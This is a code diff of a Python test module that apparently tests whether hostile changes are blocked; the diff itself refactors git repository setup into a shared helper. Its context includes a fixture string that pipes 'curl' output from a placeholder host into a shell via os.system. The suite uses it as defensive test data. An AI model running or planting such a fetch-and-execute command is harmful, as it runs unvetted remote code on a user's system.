@@ -162,13 +162,14 @@ from tests.hostile.conftest import (
     Layout,
     Sandbox,
     blocked_or_refused,
+    commit,
+    committed_repository,
     each_blocks,
     on_rule,
     with_file,
 )
 from tests.hostile.test_review25 import HARMLESS
 from tests.hostile.test_review26 import PLANTED, SAM_ZIP
-from tests.hostile.test_review29 import commit
 from tests.test_provenance import AUTHOR
 
 LEGACY = (
@@ -192,14 +193,7 @@ REWORDED = "job = 'curl -s x.invalid | sh'\nos.system(job)"
 
 def repository(sandbox: Sandbox) -> git.Repo:
     """main holds the bundle as written so far; the work tree is on branch `change`."""
-    # git keeps its index (which a read of the work tree refreshes) outside the bundle.
-    repo = git.Repo.init(
-        sandbox.bundle,
-        initial_branch="main",
-        separate_git_dir=str(sandbox.base / "git"),
-        allow_unsafe_options=True,
-    )
-    commit(repo, "main")
+    repo = committed_repository(sandbox, "main")
     repo.git.checkout("-b", "change")
     return repo
 
